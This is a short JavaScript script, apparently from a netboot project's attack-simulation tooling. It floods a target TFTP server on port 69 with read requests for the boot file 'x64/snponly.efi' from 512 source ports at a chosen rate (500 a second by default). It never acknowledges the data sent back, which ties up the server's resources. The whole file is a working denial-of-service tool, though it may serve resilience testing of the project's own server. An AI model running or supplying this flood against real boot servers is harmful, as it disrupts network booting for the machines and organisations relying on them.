/** Requests for the boot program by TFTP whose data nobody acknowledges: `tftp-requests.js TARGET NUMBER`, so many a second. */
import { readRequest } from '../../netboot/tftp-client.js'
import { target, words } from '../client/attacker.js'
import { flood } from '../client/datagrams.js'

const [perS = '500'] = words
const request = readRequest('x64/snponly.efi', { tsize: 0, blksize: 1468, windowsize: 16 })
const sourcePorts = 512

flood(
  () => [{ host: target.server, port: 69 }],
  sourcePorts,
  Number(perS),
  () => request,
)
